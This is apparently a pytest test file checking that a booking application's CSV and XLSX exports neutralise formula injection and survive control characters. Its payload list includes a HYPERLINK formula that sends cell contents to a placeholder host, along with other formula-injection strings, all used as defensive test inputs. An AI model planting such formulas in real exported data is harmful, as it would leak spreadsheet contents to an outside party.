"""Spreadsheet exports never carry a live formula, and no stored text makes one fail.

Text a spreadsheet would read as a formula (CSV/formula injection: ``=``, ``+``, ``-``, ``@``, tab,
CR, also after leading spaces, and the full-width ＝＋－＠) is written by
``blueprints/core/spreadsheets.py`` as OWASP describes: in CSV the cell gets a leading apostrophe,
in XLSX it is a text cell (``data_type`` ``'s'``, quote-prefixed), never a ``<f>`` element.
Numbers stay numbers. Characters XML cannot hold (U+000B from a pasted Word text, written here
straight into the database) are dropped instead of answering 500.

Every export route is fetched as the role that may use it: the host of the station (roster CSV and
XLSX, host statistics), the branch secretary (sign-in sheet), the admin (statistics, organisations,
the invitations list of an import). The audit trail has no export.
"""
from __future__ import annotations

import base64
import csv
import io
import re
import zipfile
from datetime import date, datetime

import pytest
from openpyxl import Workbook, load_workbook

from blueprints.booking.models import BookingStatus
from blueprints.core import spreadsheets

from . import factories as f
from .test_directory_import import HEADER, confirm, upload

HYPERLINK = '=HYPERLINK("http://x?d="&E3&F3,"场地须知")'
PAYLOADS = [
    "=1+1", HYPERLINK, "+1+1", "-1+1", "@SUM(1)", "  =1+1", "\u3000=1+1", "\t=1+1", "\r=1+1",
    "＝1+1", "＋1", "－1", "＠SUM(1)",
]
SAFE = ["王书记", "1+1", "a=b", "'=1+1 already quoted by hand"]


def _csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response.data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"), newline="")))


def _sheets(response):
    """The workbook, after checking that no sheet of the file holds a formula."""
    assert response.status_code == 200, response.status_code
    with zipfile.ZipFile(io.BytesIO(response.data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    return load_workbook(io.BytesIO(response.data))


def _text_cells(workbook):
    return [cell for sheet in workbook for row in sheet.iter_rows() for cell in row if isinstance(cell.value, str)]


def _same(value: str, payload: str) -> bool:
    # XML turns a bare CR into a line feed when the file is read back
    return value in (payload, payload.replace("\r", "\n"))


def assert_csv_escaped(rows, payloads=PAYLOADS):
    cells = [cell for row in rows for cell in row]
    for payload in payloads:
        found = [c for c in cells if c.startswith((payload, "'" + payload))]
        assert found, payload
        assert all(c.startswith("'") and c[1:].startswith(payload) for c in found), (payload, found)
    for cell in cells:
        assert not spreadsheets.looks_like_formula(cell), cell


def assert_xlsx_text(workbook, payloads=PAYLOADS):
    cells = _text_cells(workbook)
    for payload in payloads:
        found = [c for c in cells if _same(c.value[:len(payload)], payload)]
        assert found, payload
        for cell in found:
            assert cell.data_type == "s", (payload, cell.coordinate)
            assert cell.quotePrefix, (payload, cell.coordinate)
    assert all(c.data_type == "s" for c in cells)


# -- host: roster CSV / XLSX ------------------------------------------------------------------------------

@pytest.fixture
def roster_scene(frozen_now):
    station = f.create_station(name="七宝老街党群服务站")
    host = f.create_host(stations=[station])
    slot = f.create_slot(station=station, package=f.create_package(stations=[station]))
    for n, payload in enumerate(PAYLOADS):
        organisation = f.create_organisation(name=f"{payload}支部{n}")
        f.create_booking(slot=slot, organisation=organisation, headcount=10 + n, contact_name=payload,
                         note=payload, contact_phone="13900000000")
    return host, slot


def test_host_roster_csv_escapes_formulas_and_keeps_headcounts_numbers(client, login, roster_scene):
    host, slot = roster_scene
    login(host)
    response = client.get(f"/host/slots/{slot.id}/roster.csv")
    rows = _csv_rows(response)
    assert_csv_escaped(rows)
    bookings = rows[2:]
    assert sorted(int(r[2]) for r in bookings) == [10 + n for n in range(len(PAYLOADS))]
    for payload in PAYLOADS:
        assert any(r[4] == "'" + payload and r[7] == "'" + payload for r in bookings), payload
    # numbers are written bare, text quoted: no separator inside a cell can start a new one
    assert re.search(r"^1,\"'.*支部\d+\",1\d,", response.data.decode("utf-8-sig"), re.M)


def test_host_roster_xlsx_writes_formulas_as_text_and_headcounts_as_numbers(client, login, roster_scene):
    host, slot = roster_scene
    login(host)
    workbook = _sheets(client.get(f"/host/slots/{slot.id}/roster.xlsx"))
    assert_xlsx_text(workbook)
    sheet = workbook.active
    headcounts = [sheet.cell(row=r, column=3) for r in range(3, sheet.max_row + 1)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in headcounts)
    assert sheet.cell(row=3, column=1).value == 1  # 序号
    notes = {sheet.cell(row=r, column=8).value for r in range(3, sheet.max_row + 1)}
    assert HYPERLINK in notes and "=1+1" in notes  # the text itself, not altered


# -- secretary: sign-in sheet -----------------------------------------------------------------------------

def test_secretary_sign_in_sheet_writes_names_and_titles_as_text(client, login, frozen_now):
    station = f.create_station(name="=1+1站", address="@SUM(1)路")
    package = f.create_package(stations=[station], title=HYPERLINK)
    secretary = f.create_secretary(organisation=f.create_organisation(name="＝1+1支部"))
    booking = f.create_booking(slot=f.create_slot(package=package, station=station),
                               organisation=secretary.organisation, status=BookingStatus.ATTENDED,
                               attended_headcount=3)
    login(secretary)
    workbook = _sheets(client.get(f"/host/bookings/{booking.id}/sign-in-sheet.xlsx"))
    assert_xlsx_text(workbook, ["=1+1站", HYPERLINK, "＝1+1支部"])
    values = [row for row in workbook.active.iter_rows(values_only=True)]
    assert ("实到人数", 3, None, None, None) in values
    assert (1, "", "＝1+1支部", "", "") in values or (1, None, "＝1+1支部", None, None) in values


# -- admin and host: statistics ---------------------------------------------------------------------------

@pytest.fixture
def stats_scene(frozen_now):
    station = f.create_station(name="=1+1站", subdistrict="@七宝镇")
    slot = f.create_slot(station=station, package=f.create_package(stations=[station]))
    f.create_booking(slot=slot, organisation=f.create_organisation(name="-1支部", subdistrict="+华漕镇"),
                     headcount=7)
    for n, payload in enumerate(PAYLOADS):  # not covered: listed by the uncovered export
        f.create_organisation(name=f"{payload}未覆盖{n}", subdistrict="＠新虹街道", secretary_name=payload)
    return station


def test_admin_stats_uncovered_xlsx_writes_names_as_text(client, login, stats_scene):
    login(f.create_admin())
    workbook = _sheets(client.get("/admin/stats/uncovered.xlsx"))
    assert_xlsx_text(workbook)
    members = [row[3] for row in workbook.active.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and c.value == 25 for c in members)


@pytest.mark.parametrize("table, payloads", [("stations", ["=1+1站"]),
                                             ("coverage", ["+华漕镇", "＠新虹街道"])])
def test_admin_stats_xlsx_writes_station_and_subdistrict_names_as_text(client, login, stats_scene, table, payloads):
    login(f.create_admin())
    workbook = _sheets(client.get(f"/admin/stats/{table}.xlsx"))
    assert_xlsx_text(workbook, payloads)
    numbers = [c for row in workbook.active.iter_rows(min_row=2) for c in row[1:] if c.value is not None]
    assert numbers and all(c.data_type == "n" for c in numbers)


def test_host_stats_xlsx_writes_the_station_name_as_text_and_numbers_as_numbers(client, login, stats_scene):
    login(f.create_host(stations=[stats_scene]))
    workbook = _sheets(client.get("/host/stats/stations.xlsx"))
    assert_xlsx_text(workbook, ["=1+1站"])
    row = next(workbook.active.iter_rows(min_row=2, max_row=2))
    assert row[0].value == "=1+1站" and row[3].value == 7 and row[3].data_type == "n"


# -- admin: organisations and invitations -----------------------------------------------------------------

@pytest.fixture
def organisations(frozen_now):
    for n, payload in enumerate(PAYLOADS):
        f.create_organisation(name=f"{payload}组织{n}", subdistrict=payload, secretary_name=payload,
                              member_count=n)


def test_admin_organisations_csv_escapes_every_formula(client, login, organisations):
    login(f.create_admin())
    rows = _csv_rows(client.get("/admin/organisations/export.csv?status=all"))
    assert rows[0] == HEADER
    assert_csv_escaped(rows)
    assert sorted(int(r[4]) for r in rows[1:]) == list(range(len(PAYLOADS)))


def test_admin_organisations_xlsx_writes_every_formula_as_text(client, login, organisations):
    login(f.create_admin())
    workbook = _sheets(client.get("/admin/organisations/export.xlsx?status=all"))
    assert_xlsx_text(workbook)
    counts = [row[4] for row in workbook.active.iter_rows(min_row=2)]
    assert all(c.data_type == "n" for c in counts)


INVITED = ["=1+1", "+1", "-1", "@SUM(1)", "＝1+1", HYPERLINK]


def test_admin_invitations_csv_escapes_organisation_and_secretary_names(client, login, frozen_now):
    login(f.create_admin())
    rows = [[f"{name}支部", "党支部", "", "新虹街道", "5", name, f"139000011{n:02d}"] for n, name in enumerate(INVITED)]
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerows([HEADER, *rows])
    html = upload(client, buffer.getvalue().encode("utf-8")).get_data(as_text=True)
    page = confirm(client, html, invite=True).get_data(as_text=True)
    data = re.search(r'href="data:text/csv;charset=utf-8;base64,([^"]+)"', page).group(1)
    body = base64.b64decode(data)
    assert body.startswith(b"\xef\xbb\xbf")
    listed = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert listed[0] == ["组织", "书记姓名", "用户名", "一次性密码"]
    assert_csv_escaped(listed, INVITED)
    assert len(listed) == len(INVITED) + 1


# -- stored control characters never make an export fail --------------------------------------------------

def test_host_roster_and_secretary_sign_in_sheet_survive_a_vertical_tab_in_the_database(client, login, frozen_now):
    station = f.create_station(name="站\x0b点")
    host = f.create_host(stations=[station])
    secretary = f.create_secretary(organisation=f.create_organisation(name="支部\x0b一", secretary_name="王\x0b"))
    slot = f.create_slot(station=station, package=f.create_package(stations=[station], title="党课\x01"))
    booking = f.create_booking(slot=slot, organisation=secretary.organisation, contact_name="张\x0b三",
                               note="第一行\x0b第二行\x0c", status=BookingStatus.ATTENDED, attended_headcount=2)
    login(host)
    sheet = _sheets(client.get(f"/host/slots/{slot.id}/roster.xlsx")).active
    assert sheet["B3"].value == "支部一" and sheet["E3"].value == "张三" and sheet["H3"].value == "第一行第二行"
    rows = _csv_rows(client.get(f"/host/slots/{slot.id}/roster.csv"))
    assert rows[2][4] == "张三"
    login(secretary)
    sheet = _sheets(client.get(f"/host/bookings/{booking.id}/sign-in-sheet.xlsx")).active
    assert "支部一" in [c.value for c in sheet["B"]]


def test_admin_and_host_exports_survive_control_characters_in_the_database(client, login, frozen_now):
    station = f.create_station(name="站\x0b点", subdistrict="七宝\x1f镇")
    slot = f.create_slot(station=station, package=f.create_package(stations=[station]))
    f.create_booking(slot=slot, organisation=f.create_organisation(name="支部\x0b一"))
    f.create_organisation(name="未覆盖\x0b支部", secretary_name="王\x08", subdistrict="新虹\x0b")
    login(f.create_admin())
    for table in ("categories", "stations", "weeks", "attendance", "coverage", "uncovered"):
        _sheets(client.get(f"/admin/stats/{table}.xlsx"))
    names = [row[1] for row in _sheets(client.get("/admin/stats/uncovered.xlsx")).active.iter_rows(values_only=True)]
    assert "未覆盖支部" in names
    assert "未覆盖支部" in [r[0] for r in _csv_rows(client.get("/admin/organisations/export.csv"))]
    assert "未覆盖支部" in [c.value for c in _sheets(client.get("/admin/organisations/export.xlsx")).active["A"]]
    login(f.create_host(stations=[station]))
    assert _sheets(client.get("/host/stats/stations.xlsx")).active["A2"].value == "站点"


# -- the helper -------------------------------------------------------------------------------------------

@pytest.mark.parametrize("text", PAYLOADS + ["=", "-", "\t", "\r\n=1", " \t+1", "\u00a0@x", "\n=1"])
def test_looks_like_formula(text):
    assert spreadsheets.looks_like_formula(text)


@pytest.mark.parametrize("text", SAFE + ["", " ", "\n", "13900000000", "2026-11-23", "中文=1", "#N/A"])
def test_looks_like_no_formula(text):
    assert not spreadsheets.looks_like_formula(text)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("  -2", "'  -2"), ("＠x", "'＠x"), ("\t=1", "'\t=1"), ("王书记", "王书记"),
    ("a\x0bb\x00c", "abc"), ("\x0b=1", "'=1"), ("'=1", "''=1"), ("'王", "'王"),
    (-5, -5), (2.5, 2.5), (0, 0), (None, None), (True, True),
    (date(2026, 11, 23), date(2026, 11, 23)),
])
def test_csv_value(value, expected):
    assert spreadsheets.csv_value(value) == expected


@pytest.mark.parametrize("text", PAYLOADS + SAFE + ["'", "''=1", "'王"])
def test_unquote_undoes_what_the_csv_export_did(text):
    assert spreadsheets.unquote(spreadsheets.csv_value(text)) == text


def test_csv_bytes_has_a_bom_crlf_quoted_text_and_bare_numbers():
    body = spreadsheets.csv_bytes([["名称", "人数"], ["=1+1", 5], ["a;=2", -3], [None, 1.5]])
    assert body.startswith(b"\xef\xbb\xbf")
    assert body.decode("utf-8-sig") == '"名称","人数"\r\n"\'=1+1",5\r\n"a;=2",-3\r\n"",1.5\r\n'


def test_xlsx_bytes_text_is_never_a_formula_and_numbers_dates_and_blanks_stay():
    moment = datetime(2026, 11, 23, 10, 0)
    body = spreadsheets.xlsx_bytes("表=1", ["名称", "人数", "日期", "空"], [
        [HYPERLINK, -5, date(2026, 11, 23), None],
        ["#N/A", 2.5, moment, ""],
        ["a\x0bb", 0, "-3", "＋1"],
    ], title="=标题")
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.title == "表=1" and sheet["A1"].value == "=标题" and sheet["A1"].data_type == "s"
    assert [c.value for c in sheet[2]] == ["名称", "人数", "日期", "空"]
    a3, b3, c3, d3 = sheet[3]
    assert (a3.value, a3.data_type, a3.quotePrefix) == (HYPERLINK, "s", True)
    assert (b3.value, b3.data_type) == (-5, "n")
    assert c3.is_date and c3.value.date() == date(2026, 11, 23) and d3.value is None
    a4, b4, c4, _d4 = sheet[4]
    assert (a4.value, a4.data_type, a4.quotePrefix) == ("#N/A", "s", False)  # text, not an error value
    assert (b4.value, c4.value) == (2.5, moment)
    a5, _b5, c5, d5 = sheet[5]
    assert a5.value == "ab" and (c5.value, c5.data_type, c5.quotePrefix) == ("-3", "s", True)
    assert d5.quotePrefix and sheet.freeze_panes == "A3"


def test_workbook_bytes_turns_any_formula_cell_into_text():
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"  # written past append_row
    workbook.active["A2"] = 3
    sheet = load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook))).active
    assert (sheet["A1"].value, sheet["A1"].data_type, sheet["A1"].quotePrefix) == ("=1+1", "s", True)
    assert sheet["A2"].value == 3


def test_xlsx_column_widths_given_or_fitted():
    body = spreadsheets.xlsx_bytes("宽", ["短", "长"], [["a", "很长的名称" * 4]])
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet.column_dimensions["A"].width < sheet.column_dimensions["B"].width <= 60
    body = spreadsheets.xlsx_bytes("宽", ["短", "长"], [["a", "b"]], widths=(30, 7))
    sheet = load_workbook(io.BytesIO(body)).active
    assert (sheet.column_dimensions["A"].width, sheet.column_dimensions["B"].width) == (30, 7)

